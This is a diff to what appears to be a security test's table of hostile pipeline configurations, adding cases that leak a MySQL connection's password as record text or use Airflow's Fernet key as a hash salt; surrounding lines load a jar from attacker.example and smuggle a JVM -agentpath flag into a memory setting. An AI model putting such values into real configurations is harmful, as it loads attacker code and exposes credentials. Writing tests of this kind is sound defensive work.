@@ -49,6 +49,8 @@ ATTACKS = {
     "a library": {"spark": {"conf": {"spark.jars": "http://attacker.example/x.jar"}}},
     "an agent": {"spark": {"conf": {"spark.executor.memory": "1g -agentpath:/tmp/x.so"}}},
     "another cluster": {"kafka": {"connection": "kafka_of_the_attacker"}},
+    "a password as a record's text": {"columns": {"mask": {"a.b.c": {"text_from": {"connection": "mysql_shop"}}}}},
+    "a variable as a salt": {"columns": {"mask": {"a.b.c": {"sha256": {"environment": "AIRFLOW__CORE__FERNET_KEY"}}}}},
     "another state": {"checkpoint": {"store": "table", "connection": "airflow_db"}},
     "a long topic": {"topics": {"template": "{table:>600000000}"}},
     "a delay that no date holds": {"retry_delay_seconds": 10**14},
